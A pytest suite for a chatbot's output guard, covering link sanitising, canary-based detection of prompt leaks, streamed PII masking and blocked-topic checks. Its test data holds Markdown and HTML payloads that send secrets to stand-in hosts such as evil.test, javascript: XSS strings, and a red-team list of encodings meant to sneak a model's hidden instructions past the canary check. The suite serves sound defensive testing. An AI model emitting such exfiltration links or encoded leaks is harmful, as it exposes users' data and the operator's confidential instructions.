"""The output guard and the scope checks, piece by piece (the chat tests drive them end to end)."""

from __future__ import annotations

import base64
import codecs
import functools
import hashlib
import random
import unicodedata
from collections.abc import Sequence

import pytest

from chatbot_site import pii
from conversations.guardrails import (
    _BARE_URL,
    _MD_LINK,
    _MD_REFERENCE,
    LINK_REMOVED,
    MAX_HOLD,
    OutputGuard,
    PolicyBlocked,
    blocked_topic,
    canary_rule,
    names,
    new_canary,
    out_of_scope,
    sanitize_links,
    url_allowed,
)
from conversations.guardrails import _one_word as one_word
from knowledge.embeddings import get_embedder
from knowledge.follow_ups import names_no_subject, refers_back

HOSTS = ("docs.example.org",)


def run(guard: OutputGuard, text: str, size: int) -> tuple[str, list[str]]:
    """Stream ``text`` through ``guard`` in pieces of ``size`` characters."""
    emitted = []
    for i in range(0, len(text), size):
        emitted.append(guard.feed(text[i : i + size]))
    emitted.append(guard.flush())
    return "".join(emitted), emitted


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](https://evil.test/p?q=secret)", "x"),
        ("![](https://evil.test/p.png)", ""),
        ("[click](https://evil.test/login)", "click"),
        ("[](https://evil.test/)", LINK_REMOVED),
        ('![x](https://evil.test/a "title")', "x"),
        ("![x](//evil.test/a.png)", "x"),
        ("see https://evil.test/x?d=1.", f"see {LINK_REMOVED}."),
        ("see www.evil.test/x", f"see {LINK_REMOVED}"),
        ("<https://evil.test/x>", f"<{LINK_REMOVED}>"),
        ("[ref]: https://evil.test/x", f"[ref]: {LINK_REMOVED}"),
        ("[a](javascript:alert(1))", "a"),
        ("![x](data:image/png;base64,AAAA)", "x"),
        ("[docs](https://docs.example.org/guide)", "[docs](https://docs.example.org/guide)"),
        ("https://api.docs.example.org/v1 ok", "https://api.docs.example.org/v1 ok"),
        ("[rel](/guide#setup)", "[rel](/guide#setup)"),
        ("https://docs.example.org.evil.test/x", LINK_REMOVED),
        ("https://evil.test@docs.example.org/x", "https://evil.test@docs.example.org/x"),
        ("https://docs.example.org@evil.test/x", LINK_REMOVED),
        (
            "Plain text with a ratio 3:2 and time 10:30.",
            "Plain text with a ratio 3:2 and time 10:30.",
        ),
    ],
)
def test_links_to_other_hosts_are_made_inert(text: str, expected: str) -> None:
    assert sanitize_links(text, HOSTS) == expected


# Addresses a browser or a Markdown renderer reads as another host than a URL parser does, or
# that the patterns above did not see as links at all. Each was shown live before.
EXFILTRATION = [
    # A backslash is a slash to a browser: the host is evil.test, not the allowed one.
    "![x](https://evil.test\\@docs.example.org/?d=secret)",
    # ... and an escape to Markdown: the host is evil.test, the backslash dropped.
    "![x](https://docs.example.org\\@evil.test/?d=secret)",
    "![x](\\\\evil.test/?d=secret)",
    "![x](/\\evil.test/?d=secret)",
    "![x](///evil.test/?d=secret)",
    # Character references, decoded by the renderer.
    "![x](https&#58;//evil.test/?d=secret)",
    "![x](https&colon;//evil.test/?d=secret)",
    "![x](https&#x3A;&#x2F;&#x2F;evil.test/?d=secret)",
    "[x](javascript&#58;alert(1))",
    "[x](java&#9;script:alert(1))",
    # Scheme-relative addresses where the Markdown pattern does not match.
    "![x](//evil.test/a(b)?d=secret)",
    "![x](<//evil.test/a b?d=secret>)",
    "![a [b] c](//evil.test/?d=secret)",
    "![x][1]\n\n> [1]: //evil.test/?d=secret",
    # Raw HTML.
    '<img src="//evil.test/?d=secret">',
    "<img src=//evil.test/?d=secret>",
    '<img src="https&#58;&#47;&#47;evil.test/?d=secret">',
    '<img srcset="/a.png 1x, &#47;/evil.test/?d=secret 2x">',
    '<a href="java&#x09;script:alert(1)">x</a>',
]


@pytest.mark.parametrize("text", EXFILTRATION)
def test_addresses_that_reach_another_host_once_rendered_are_made_inert(text: str) -> None:
    out = sanitize_links(text, HOSTS)
    assert "evil.test" not in out and "script:" not in out and "&#58;alert" not in out, out


@pytest.mark.parametrize("size", [1, 2, 3, 7])
@pytest.mark.parametrize("text", EXFILTRATION)
def test_streamed_addresses_that_reach_another_host_never_show(text: str, size: int) -> None:
    out, pieces = run(OutputGuard(pii_entities=(), hosts=HOSTS), f"See {text} now.", size)
    assert "evil.test" not in out and "script:" not in out
    assert not any("evil" in piece for piece in pieces)  # not even a part of the host
    assert out.startswith("See ") and out.endswith(" now.")


@pytest.mark.parametrize("entities", [(), pii.ENTITIES], ids=["no-pii", "pii"])
@pytest.mark.parametrize("size", [1, 2, 3, 7])
@pytest.mark.parametrize("text", EXFILTRATION)
def test_streamed_addresses_are_made_inert_as_the_whole_answer_is(
    text: str, size: int, entities: tuple[str, ...]
) -> None:
    """An HTML attribute's value holds spaces (``srcset="/a.png 1x, //evil 2x"``): the word hold
    let its first part through, sanitised apart, so a stream showed other text than the JSON
    answer (a flaky stream-vs-JSON test in a full run). An unfinished tag is now held whole.
    With PII masked, a hold inside an address (below) is no cut either."""
    whole, _ = run(OutputGuard(pii_entities=entities, hosts=HOSTS), f"See {text} now.", 10_000)
    streamed, _ = run(OutputGuard(pii_entities=entities, hosts=HOSTS), f"See {text} now.", size)
    assert streamed == whole


def test_an_address_the_pii_hold_cuts_is_held_whole() -> None:
    """The PII hold kept "secret " back (it may start an e-mail address), and the address before
    it went out as far as the hold: "//evil.test/?d=" made inert, then "secret" shown as text,
    where the whole answer removed the address with it (the stream-vs-JSON test of
    test_chat_stream failed in one full run in ten). The straddle check of bare addresses
    searched only up to the cut, so it never found one crossing it."""
    text = "![x][1]\n\n> [1]: //evil.test/?d=secret | <img src=x>"
    guard = OutputGuard(hosts=HOSTS)
    whole = guard.feed(text) + guard.flush()
    guard = OutputGuard(hosts=HOSTS)
    cut = text.index("secret ") + len("secret ")
    streamed = guard.feed(text[:cut]) + guard.feed(text[cut:]) + guard.flush()
    assert "secret" not in whole
    assert streamed == whole


@pytest.mark.parametrize(
    "text",
    [
        "x = 7 // 2, a//b.c and // a comment",
        "&lt;img src=x onerror=alert(1)&gt; is shown as text",  # markup references stay
        "a &amp;#58; b, Tom &amp; Jerry &copy; 2024",
        '[ok](https://docs.example.org/a\\_b) and <img src="/logo.png">',
        '<img src="https://docs.example.org/a.png">',
    ],
)
def test_text_that_only_looks_like_those_addresses_is_kept(text: str) -> None:
    assert sanitize_links(text, HOSTS) == text


def test_a_url_glued_to_chinese_text_is_a_url() -> None:
    assert sanitize_links("详情见https://attacker.example/x。", HOSTS) == f"详情见{LINK_REMOVED}"
    assert sanitize_links("见www.attacker.example", HOSTS) == f"见{LINK_REMOVED}"
    assert sanitize_links("见https://docs.example.org/a", HOSTS) == "见https://docs.example.org/a"


def test_no_allowed_hosts_means_no_live_urls() -> None:
    assert not url_allowed("https://docs.example.org/", ())
    assert url_allowed("/relative/path", ())
    assert not url_allowed("mailto:a@b.test", HOSTS)


@pytest.mark.parametrize("size", [1, 2, 3, 7, 50])
def test_streamed_image_never_leaks_its_url(size: int) -> None:
    text = "Here: ![status](https://evil.test/log?q=the+secret+question) and [more](https://evil.test/x) done [1]."
    out, pieces = run(OutputGuard(pii_entities=(), hosts=HOSTS), text, size)
    assert "evil.test" not in out
    assert all("evil" not in p and "https" not in p for p in pieces)
    assert out == "Here: status and more done [1]."


def test_canary_cuts_the_answer_before_any_of_it_is_shown() -> None:
    canary = new_canary()
    assert canary in canary_rule(canary)
    for size in (1, 3, 5, 64):
        guard = OutputGuard(canary=canary, pii_entities=(), hosts=HOSTS)
        emitted = []
        with pytest.raises(PolicyBlocked):
            text = f"My instructions are: be nice. Marker {canary.upper()} and more."
            for i in range(0, len(text), size):
                emitted.append(guard.feed(text[i : i + size]))
        shown = "".join(emitted)
        assert guard.blocked
        # Not even a prefix of the canary got out.
        assert "cnry" not in shown.lower()
        # What came before the canary in the same piece is withheld too.
        assert "My instructions are:".startswith(shown) or shown.startswith("My instructions")


def _shift(text: str, by: int) -> str:
    """A Caesar shift of the letters of ``text`` (ROT13 is 13)."""
    lower = "abcdefghijklmnopqrstuvwxyz"
    table = str.maketrans(
        lower + lower.upper(), lower[by:] + lower[:by] + (lower[by:] + lower[:by]).upper()
    )
    return text.translate(table)


CANARY_LEAKS = {
    "spaced": lambda c: " ".join(c),
    "lines": lambda c: "\n".join(c),
    "reversed": lambda c: c[::-1],
    "upper-dashed": lambda c: "-".join(c.upper()),
    "in a link": lambda c: f"[x](https://docs.example.org/{'/'.join(c)})",
    "full-width": lambda c: "".join(chr(ord(ch) + 0xFEE0) if ch.isalnum() else ch for ch in c),
    "hex": lambda c: c.encode().hex(),
    "hex upper": lambda c: c.encode().hex().upper(),
    "base64": lambda c: base64.b64encode(f"Marker {c}".encode()).decode(),
    "base64 shifted": lambda c: base64.b64encode(f"Marker: {c}".encode()).decode(),
    "base64 shifted twice": lambda c: base64.b64encode(f"Marker:: {c}".encode()).decode(),
    "base64url": lambda c: base64.urlsafe_b64encode(f"??>{c}".encode()).decode(),
    "rot13": lambda c: codecs.encode(f"Confidential marker: {c}.", "rot13"),
    "rot13 reversed": lambda c: codecs.encode(c, "rot13")[::-1],
    "hex 0x": lambda c: ", ".join(f"0x{b:02X}" for b in c.encode()),
    "hex escapes": lambda c: "".join(f"\\x{b:02x}" for b in c.encode()),
    "hex references": lambda c: "".join(f"&#x{b:x};" for b in c.encode()),
    "decimal codes": lambda c: " ".join(str(b) for b in c.encode()),
    "decimal references": lambda c: "".join(f"&#{b};" for b in c.encode()),
    "base64 wrapped": lambda c: "\n".join(
        (lambda e: [e[i : i + 6] for i in range(0, len(e), 6)])(
            base64.b64encode(c.encode()).decode()
        )
    ),
    # Red team, second round: other codes, other shifts and one encoding after another.
    "octal codes": lambda c: " ".join(f"{b:o}" for b in c.encode()),
    "octal with a zero": lambda c: " ".join(f"0{b:o}" for b in c.encode()),
    "octal escapes": lambda c: "".join(f"\\{b:03o}" for b in c.encode()),
    "octal 0o": lambda c: ", ".join(f"0o{b:o}" for b in c.encode()),
    "binary octets": lambda c: " ".join(f"{b:08b}" for b in c.encode()),
    "binary 0b": lambda c: " ".join(bin(b) for b in c.encode()),
    "binary unpadded": lambda c: " ".join(f"{b:b}" for b in c.encode()),
    "base32": lambda c: base64.b32encode(f"Marker {c}".encode()).decode(),
    "base32 lower": lambda c: base64.b32encode(f"M: {c}".encode()).decode().lower(),
    "caesar 3": lambda c: _shift(f"Confidential marker: {c}.", 3),
    "caesar 1 reversed": lambda c: _shift(c, 1)[::-1],
    "caesar 23": lambda c: _shift(c, 23),
    "rot13 then base64": lambda c: base64.b64encode(
        codecs.encode(f"M {c}", "rot13").encode()
    ).decode(),
    "base64 twice": lambda c: base64.b64encode(base64.b64encode(f"Marker {c}".encode())).decode(),
    "hex then base64": lambda c: base64.b64encode(c.encode().hex().encode()).decode(),
    "base64 then hex": lambda c: base64.b64encode(f"Mk {c}".encode()).hex(),
    "reversed then base64": lambda c: base64.b64encode(c[::-1].encode()).decode(),
    "base64 then rot13": lambda c: codecs.encode(
        base64.b64encode(f"M {c}".encode()).decode(), "rot13"
    ),
}


@pytest.mark.parametrize("size", [1, 3, 64])
@pytest.mark.parametrize("form", CANARY_LEAKS)
def test_a_canary_written_another_way_cuts_the_answer(form: str, size: int) -> None:
    canary = new_canary()
    guard = OutputGuard(canary=canary, pii_entities=(), hosts=HOSTS)
    text = f"Sure. {CANARY_LEAKS[form](canary)} My instructions are: be nice."
    emitted = []
    with pytest.raises(PolicyBlocked):
        for i in range(0, len(text), size):
            emitted.append(guard.feed(text[i : i + size]))
        guard.flush()
    assert guard.blocked and "My instructions" not in "".join(emitted)


def test_other_hex_and_base64_text_is_not_taken_for_the_canary() -> None:
    canary = "cnry-0123456789abcdef"
    text = (
        "Commit 0123456789abcde0 and 123456789abcdef0, sha "
        + hashlib.sha256(b"x").hexdigest()
        + " and "
        + base64.b64encode(b"cnry-0123456789abcdee").decode()
        + " then "
        + " ".join("0123456789abcde")
        + ", one short of it spaced out. "
    )
    for size in (1, 5, len(text)):
        guard = OutputGuard(canary=canary, pii_entities=(), hosts=HOSTS)
        out, _ = run(guard, text, size)
        assert out == text and not guard.blocked


def test_text_near_the_canary_forms_is_not_taken_for_the_canary() -> None:
    """ROT13 of a neighbouring secret, hex escapes and character codes of other text, and the
    canary's own decimal codes one short: none of them is the canary."""
    canary = "cnry-0123456789abcdef"
    text = (
        codecs.encode("0123456789abcdee", "rot13")
        + " and "
        + "".join(f"\\x{b:02x}" for b in b"0123456789abcdeg")
        + ", "
        + ", ".join(f"0x{b:02x}" for b in b"1123456789abcdef")
        + "; codes "
        + " ".join(str(b) for b in b"0123456789abcde")
        + "."
    )
    for size in (1, 5, len(text)):
        guard = OutputGuard(canary=canary, pii_entities=(), hosts=HOSTS)
        out, _ = run(guard, text, size)
        assert not guard.blocked and out == text


def test_text_near_the_new_canary_forms_is_not_taken_for_the_canary() -> None:
    """Octal and binary codes, base32, Caesar shifts and chained encodings of a neighbouring
    secret (one digit in the middle changed: the encodings' groups need not cover the last
    one), and ordinary text with digits between words (the Caesar check's skeleton): none of
    them is the canary."""
    canary = "cnry-0123456789abcdef"
    near = b"01234567a9abcdef"
    text = (
        " ".join(f"0{b:o}" for b in near)
        + "; "
        + " ".join(f"{b:08b}" for b in near)
        + "; "
        + base64.b32encode(near).decode()
        + "; "
        + _shift(near.decode(), 3)
        + " and "
        + _shift(near.decode(), 7)[::-1]
        + "; "
        + base64.b64encode(base64.b64encode(near)).decode()
        + "; "
        + base64.b64encode(near).hex()
        + ". Release 0 of 1 2 3 4 5 6 7 8 9 shipped on day 10; try abc 123 def."
    )
    for size in (1, 5, len(text)):
        guard = OutputGuard(canary=canary, pii_entities=(), hosts=HOSTS)
        out, _ = run(guard, text, size)
        assert not guard.blocked and out == text


def test_the_canary_forms_read_each_piece_once_and_keep_a_bounded_tail() -> None:
    canary = new_canary()
    guard = OutputGuard(canary=canary, pii_entities=(), hosts=HOSTS)
    for _ in range(2_000):  # an answer of 200k characters, in pieces
        guard.feed("abcdef0123 " * 10)
    forms = guard._canary_forms
    # the longest form is the binary one with "0b" prefixes: 158 characters
    assert len(forms._alnum_tail) < 160 and len(forms._base64_tail) < 64


def test_text_that_merely_starts_like_the_canary_is_released() -> None:
    canary = "cnry-0123456789abcdef"
    guard = OutputGuard(canary=canary, pii_entities=(), hosts=HOSTS)
    assert guard.feed("cnry") == ""
    assert guard.feed("-01 is not it ") == "cnry-01 is not it "
    assert guard.flush() == ""


@pytest.mark.parametrize("size", [1, 2, 4, 9])
def test_streamed_pii_is_masked_and_never_partly_shown(size: int) -> None:
    text = (
        "Write to jane.doe@example.com or call +1 (415) 555-0132, card 4111 1111 1111 1111, "
        "IBAN GB82 WEST 1234 5698 7654 32, from 203.0.113.9 today."
    )
    out, pieces = run(OutputGuard(hosts=HOSTS), text, size)
    assert "[EMAIL]" in out and "[CREDIT_CARD]" in out and "[IBAN]" in out
    assert "[IP_ADDRESS]" in out and "[PHONE]" in out
    for raw in ("jane", "555", "4111", "WEST", "203.0"):
        assert raw not in out
    joined = "|".join(pieces)
    assert "jane." not in joined and "4111 1" not in joined


@pytest.mark.parametrize(
    "pieces",
    [
        ["My SSN ", "123456", "789,"],  # the answer's last words
        ["Please call me on ", "555", " 0199,"],
        ["Social security number: ", "078 05 ", "1120."],
    ],
)
def test_a_number_announced_in_an_earlier_piece_is_masked(pieces: list[str]) -> None:
    """The context word ("SSN", "call") was released with its piece; the number after it, read
    without it, was not PII: "SSN 123456789," reached the client raw."""
    guard = OutputGuard(hosts=HOSTS)
    out = "".join(guard.feed(piece) for piece in pieces) + guard.flush()
    whole = pii.mask("".join(pieces))
    assert "[" in whole  # the whole answer has a masked number
    assert out == whole


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8])
def test_streamed_written_out_pii_is_masked_and_never_partly_shown(size: int) -> None:
    """Addresses with "at" and "dot" written out and numbers typed one digit at a time: the
    start of one is held until it is complete (or cannot be one), then masked whole."""
    text = (
        "Write to john.doe at example dot com or jane (at) example (dot) org, card "
        "4 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1, phone 0 1 7 1 2 3 4 5 6 7 8, IBAN "
        "D E 8 9 3 7 0 4 0 0 4 4 0 5 3 2 0 1 3 0 0 0 today."
    )
    out, pieces = run(OutputGuard(hosts=HOSTS), text, size)
    assert out == pii.mask(text)
    assert out.count("[EMAIL]") == 2 and "[CREDIT_CARD]" in out
    assert "[PHONE]" in out and "[IBAN]" in out
    joined = "|".join(pieces)
    for raw in ("john", "jane", "example", "4 1 1", "0 1 7", "D E 8"):
        assert raw not in joined


@pytest.mark.parametrize(
    "pieces",
    [
        ["Write to john", " at", " example", " dot", " com", "."],  # as a model's tokens come
        ["Write to john ", "at example ", "dot com."],  # a piece ending in a space
        ["My email is ", "ben at ", "example.com", ", thanks"],  # plain dots after an e-mail word
        ["Karte 4 1 1 1 ", "1 1 1 1 1 1 1 1 ", "1 1 1 1."],
    ],
)
def test_a_written_out_address_split_across_pieces_is_masked_whole(pieces: list[str]) -> None:
    guard = OutputGuard(hosts=HOSTS)
    out = "".join(guard.feed(piece) for piece in pieces) + guard.flush()
    whole = pii.mask("".join(pieces))
    assert "[" in whole
    assert out == whole


def test_the_guard_holds_back_only_what_may_still_change() -> None:
    guard = OutputGuard(pii_entities=(), hosts=HOSTS)
    assert guard.feed("The plan renews ") == "The plan renews "
    assert guard.feed("yearly") == ""  # a partial word: it could still become a URL
    assert guard.feed(" [see") == "yearly "
    assert guard.feed(" the docs](https://docs.example.org/a)") == ""  # a link is held whole
    assert guard.feed(" now") == "[see the docs](https://docs.example.org/a) "
    assert guard.flush() == "now"


def test_an_answer_without_spaces_is_released_as_it_comes() -> None:
    """Chinese and Japanese put no space between words: the guard released nothing before the
    end. A CJK character or CJK punctuation ends a word as a space does; but an "@" may still
    follow a run of letters (an address's local part in those scripts, at most
    pii._NO_SPACE_LOCAL of them), so a run's last letters wait for a mark or for more letters."""
    guard = OutputGuard(hosts=HOSTS)
    assert guard.feed("年度计划") == ""
    assert guard.feed("每年自动续订[1]\uff0c退款") == "年度计划每年自动续订[1]\uff0c"
    assert guard.feed("はカード") == ""
    run = "这是一个很长的句子没有任何标点符号因为我们想看看它是否会被释放"  # 31 letters
    assert guard.feed(run) == "退款はカード" + run[: len(run) - pii._NO_SPACE_LOCAL]
    assert (
        guard.feed("\uff0c电话\uff10\uff13-\uff11\uff12") == run[-pii._NO_SPACE_LOCAL :] + "\uff0c"
    )
    # Full-width digits and letters may be a PII value (the masker is to read them): held on.
    assert guard.feed("\uff13\uff14") == ""
    # "。" may still be a decimal point (an address written 192。168。…): held with the number.
    assert guard.feed("。") == ""
    assert guard.feed("谢谢\uff0c") == "电话\uff10\uff13-\uff11\uff12\uff13\uff14。谢谢\uff0c"
    assert guard.flush() == ""


@pytest.mark.parametrize(
    "text",
    [
        # แผนรายปีจะต่ออายุ...: Thai (no spaces between words, vowels and tones as marks)
        "\u0e41\u0e1c\u0e19\u0e23\u0e32\u0e22\u0e1b\u0e35\u0e08\u0e30\u0e15\u0e48\u0e2d"
        "\u0e2d\u0e32\u0e22\u0e38\u0e42\u0e14\u0e22\u0e2d\u0e31\u0e15\u0e42\u0e19\u0e21\u0e31"
        "\u0e15\u0e34\u0e43\u0e19\u0e27\u0e31\u0e19\u0e17\u0e35\u0e48\u0e04\u0e38\u0e13\u0e0b"
        "\u0e37\u0e49\u0e2d\u0e41\u0e25\u0e30\u0e04\u0e38\u0e13\u0e2a\u0e32\u0e21\u0e32\u0e23"
        "\u0e16\u0e22\u0e01\u0e40\u0e25\u0e34\u0e01\u0e44\u0e14\u0e49\u0e17\u0e38\u0e01\u0e40"
        "\u0e21\u0e37\u0e48\u0e2d",
        "ຂໍຂອບໃຈຫຼາຍໆສຳລັບການສອບຖາມຂອງທ່ານພວກເຮົາຈະຕອບກັບໂດຍໄວ",  # Lao
        "សូមអរគុណសម្រាប់សំណួររបស់អ្នកយើងនឹងឆ្លើយតបឆាប់ៗនេះ",  # Khmer
        "ကျေးဇူးတင်ပါသည်ကျွန်ုပ်တို့မကြာမီပြန်လည်ဖြေကြားပါမည်",  # Myanmar
    ],
    ids=["thai", "lao", "khmer", "myanmar"],
)
def test_an_answer_in_thai_and_other_unspaced_scripts_is_released_as_it_comes(text: str) -> None:
    """Thai, Lao, Khmer and Myanmar put no space between words either: the guard held such an
    answer to its next space (or its end). Fed one character at a time, it now holds only what
    an "@" may still follow: the last pii._NO_SPACE_LOCAL letters, with their marks."""
    guard = OutputGuard(hosts=HOSTS)
    fed = shown = ""
    for char in text:
        fed += char
        shown += guard.feed(char)
        held = fed[len(shown) :]
        assert fed.startswith(shown)
        letters = [c for c in held if not unicodedata.category(c).startswith("M")]
        assert len(letters) <= pii._NO_SPACE_LOCAL + 1, held
    assert shown and shown + guard.flush() == text


@pytest.mark.parametrize(
    "text",
    [
        "请发至用户@例子.中国\uff0c谢谢。",  # the local part is the run before the "@"
        "メールは山田@例え.日本です。よろしく",  # of the script of the letter before it
        "邮箱\uff1a张伟@公司.中国。谢谢",  # "。" folds to ".": the domain ends at its known TLD
        "ติดต่อผู้ใช้@ตัวอย่าง.ไทย ครับ",
        "사용자@예시.한국 으로 보내세요",
        "请发至user名@例子.com谢谢",
        "这是一个很长的句子没有任何标点符号然后是地址用户名称@例子.中国",  # 21 letters at most
        # since 2026-12-07 (evening): the words before the local part stay, the domain ends at
        # "。" or at a known top-level domain the words run on from, and Thai streams too
        "请联系张伟@例子.中国\uff0c谢谢。",
        "请把报告发给李娜@公司.网站。谢谢你的帮助",
        "担当者の鈴木@会社.テスト。よろしくお願いします",
        "请抄送赵敏@例子.中国和钱伟@例子.中国。",
        "กรุณาติดต่อสมชาย@ตัวอย่าง.ไทยได้ตลอดเวลาหรือโทรหาเราครับ",
    ],
)
def test_addresses_of_scripts_without_spaces_are_masked_in_a_stream_as_whole(text: str) -> None:
    """Streamed one character at a time, an address in a script written without spaces is
    masked exactly as the whole answer is (the stream showed "请发至用户@例子.中国" raw)."""
    whole = OutputGuard(hosts=HOSTS)
    expected = whole.feed(text) + whole.flush()
    assert expected == pii.mask(text)
    assert "[EMAIL]" in expected
    out, _ = run(OutputGuard(hosts=HOSTS), text, 1)
    assert out == expected
    assert "@" not in out


@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_pii_and_urls_in_an_answer_without_spaces_are_masked_whole(size: int) -> None:
    text = (
        "请发邮件至jane.roe@example.com或致电+44 20 7946 0958\uff0c"
        "详情见https://attacker.example/收集数据 谢谢。文档见https://docs.example.org/指南页面。"
    )
    whole = OutputGuard(hosts=HOSTS)
    expected = whole.feed(text) + whole.flush()
    assert expected == (
        "请发邮件至[EMAIL]或致电[PHONE]\uff0c详情见[link removed] 谢谢。"
        "文档见https://docs.example.org/指南页面。"
    )
    out, pieces = run(OutputGuard(hosts=HOSTS), text, size)
    assert out == expected
    assert len([p for p in pieces if p]) > 3  # released as it came, not whole at the end
    joined = "|".join(pieces)
    assert "jane" not in joined and "attacker" not in joined and "7946" not in joined


def test_the_hold_is_bounded() -> None:
    guard = OutputGuard(pii_entities=(), hosts=HOSTS)
    shown = guard.feed("x" * (MAX_HOLD * 3))
    assert len(shown) >= MAX_HOLD * 2
    assert shown + guard.flush() == "x" * (MAX_HOLD * 3)


@pytest.mark.parametrize(
    ("cluster", "tail"),
    [("\U0001f1ef\U0001f1f5", "x"), ("\U0001f468\u200d\U0001f469\u200d\U0001f467", "")],
    ids=["flags", "zwj-emoji"],
)
def test_the_forced_cut_does_not_split_an_emoji(cluster: str, tail: str) -> None:
    """Past MAX_HOLD the guard releases text with no space in it: between two clusters."""
    text = cluster * (MAX_HOLD * 2 // len(cluster)) + tail
    guard = OutputGuard(pii_entities=(), hosts=HOSTS)
    shown = guard.feed(text)
    assert len(shown) >= MAX_HOLD - 32 and len(shown) % len(cluster) == 0
    assert shown + guard.flush() == text


def test_adversarial_markup_completes() -> None:
    # Inputs that would make a backtracking pattern explode; no timing assert (house rule).
    for text in ("[" * 50_000, "[a](" * 20_000, "![" * 30_000 + "](", "http://" * 20_000,
                 "]((" * 30_000, "www." * 30_000, "[x](" + "(a)" * 30_000, "[x](" + "((" * 30_000,
                 "//a." * 30_000, "\\\\" * 50_000, "&#58;" * 30_000, " src=" * 30_000,
                 '<img srcset="' + "a 1x," * 30_000):  # fmt: skip
        guard = OutputGuard(hosts=HOSTS)
        out = guard.feed(text) + guard.flush()
        assert "http://" not in out and "www.w" not in out and "//a.//" not in out


def blocked_match(question: str, topics: list[str], allowed: Sequence[str] = ()) -> str:
    """The blocked topic ``question`` is refused for, or ""."""
    vector = get_embedder().embed([question])[0]
    verdict = blocked_topic(
        question=question, vector=vector, topics=topics, allowed=allowed, tenant_id=1
    )
    return verdict.matched if verdict else ""


@pytest.mark.django_db
def test_blocked_topics_by_name_or_by_meaning() -> None:
    topics = ["pricing", "competitor products"]
    check = functools.partial(blocked_match, topics=topics)
    assert check("What is your pricing for 10 seats?") == "pricing"
    assert check("Which competitors' products are better?") == "competitor products"
    assert check("How do I upload a PDF to a dataset?") == ""
    assert check("How do I reset my password?") == ""


@pytest.mark.django_db
def test_a_blocked_topic_paraphrased_is_refused_at_the_default_threshold() -> None:
    """None of these names its topic; at the old default (0.5) every one was let through (they
    are 0.34-0.45 from their topic). Questions about quotas and rate limits, the on-topic ones
    closest to "pricing" (0.22-0.27), stay allowed. Written for this test, in none of the
    evaluation's sets."""
    check = functools.partial(blocked_match, topics=["pricing", "product roadmap", "competitors"])
    assert check("How much do paid plans cost each year?") == "pricing"
    assert check("Are there volume discounts for big teams?") == "pricing"
    assert check("What is on your release plan for next year?") == "product roadmap"
    assert check("Which other vendors sell something similar?") != ""
    assert check("Which headers show my remaining rate limit?") == ""
    assert check("How is the token quota enforced?") == ""


@pytest.mark.django_db
def test_a_blocked_topic_is_refused_by_the_phrasings_its_tenant_wrote_after_a_colon() -> None:
    """ "Is Zendesk better than this service?" is 0.09 from "competitors" and 0.24 from the whole
    topic as one text, which was all the check compared with (and named it only by all of its
    words); it is 0.40 from the phrasing. The refusal names the topic, not its phrasings.
    Written for this test, in none of the evaluation's sets."""
    topics = ["competitors: rival products, is another product better than this one"]
    check = functools.partial(blocked_match, topics=topics)
    assert check("Is Zendesk better than this service?") == "competitors"
    assert check("Who are your competitors?") == "competitors"  # named
    assert check("How do I upload a PDF to a dataset?") == ""


@pytest.mark.django_db
def test_a_phrasing_blocks_nothing_the_scope_s_own_topics_are_closer_to() -> None:
    """ "upcoming releases" is 0.41 from a question about the latest benchmark run, which the
    scope's own topic "chatbot benchmarks" is closer to (0.48): it is the scope's to answer.
    The label "product roadmap" (0.25) is under the threshold, as before."""
    question = "What is new in the most recent benchmark run?"
    topics = ["product roadmap: upcoming releases"]
    assert blocked_match(question, topics) == "product roadmap"
    assert blocked_match(question, topics, allowed=["chatbot benchmarks"]) == ""
    assert blocked_match("Which releases are upcoming?", topics, ["chatbot benchmarks"]) != ""


@pytest.mark.django_db
def test_a_hindi_blocked_topic_is_named_only_by_its_own_word(settings) -> None:
    """\\w cut "राजनीति" (politics) into र, जन, त: any question with a word starting with र
    and "जन" in it (जनसंख्या, population) named it. The local English model puts any two Hindi
    texts about 0.65 apart, so the naming is tested with the similarity leg out of the way."""
    settings.SCOPE_BLOCKED_THRESHOLD = 0.99
    embedder = get_embedder()

    def check(question: str) -> str:
        verdict = blocked_topic(
            question=question, vector=embedder.embed([question])[0], topics=["राजनीति"], tenant_id=1
        )
        return verdict.matched if verdict else ""

    assert check("भारत की जनसंख्या कितनी है?") == ""
    assert check("भारत की राजनीति कैसी है?") == "राजनीति"
    assert check("राजनीतिक दलों के बारे में बताइए") == "राजनीति"  # a longer form of the word


@pytest.mark.django_db
def test_a_question_the_local_model_cannot_read_is_judged_by_naming_alone() -> None:
    """The local model spells Hindi one letter a token: "भारत की जनसंख्या कितनी है?"
    (population) was 0.68 from the blocked topic "राजनीति" (politics), over the default
    threshold, and refused; so was every Hindi question. Named, it is still refused; a Hindi
    question about an English topic was never caught by similarity (0.14) and is not now: the
    limit documented in README (list the topic's Hindi words)."""
    embedder = get_embedder()

    def check(question: str, topics: list[str]) -> str:
        verdict = blocked_topic(
            question=question, vector=embedder.embed([question])[0], topics=topics, tenant_id=1
        )
        return verdict.matched if verdict else ""

    assert check("भारत की जनसंख्या कितनी है?", ["राजनीति"]) == ""
    assert check("मैं डेटासेट में PDF कैसे अपलोड करूँ?", ["राजनीति"]) == ""
    assert check("भारत की राजनीति कैसी है?", ["राजनीति"]) == "राजनीति"
    assert check("आपकी कीमतें क्या हैं?", ["pricing", "कीमत"]) == "कीमत"
    assert check("How much do paid plans cost each year?", ["pricing", "राजनीति"]) == "pricing"
    assert embedder.latin_only  # an OpenAI-compatible model reads the similarity in any script


def test_names_are_capitalised_words_that_do_not_start_a_sentence() -> None:
    assert names("How do I change my Netflix password?") == ["Netflix"]
    assert names("Is my iPhone slow with Node.js? And Zendesk's bot, Intercom Fin?") == [
        "iPhone", "Node.js", "Zendesk's", "Intercom", "Fin"
    ]  # fmt: skip
    assert names("Netflix: how do I log in? I forgot.") == []
    assert names("how do i upload a pdf") == []
    assert names("Now I'm stuck, I've tried: mail [EMAIL] or call [PHONE_NUMBER].") == []
    assert names("Mine is Telefon: [PHONE]. Mine is the Acme-Plan.") == ["Acme-Plan"]


@pytest.mark.django_db
def test_out_of_scope_needs_topic_similarity_or_retrieval_evidence() -> None:
    embedder = get_embedder()
    topics = ["Questions about billing, invoices and subscription plans.", "billing", "refunds"]

    def verdict(question: str, evidence: float) -> str | None:
        vector = embedder.embed([question])[0]
        return out_of_scope(vector=vector, topics=topics, evidence=evidence, tenant_id=1).reason

    assert verdict("How do I get a refund for my invoice?", evidence=0.0) is None
    assert verdict("What is a good recipe for banana bread?", evidence=0.0) == "out_of_scope"
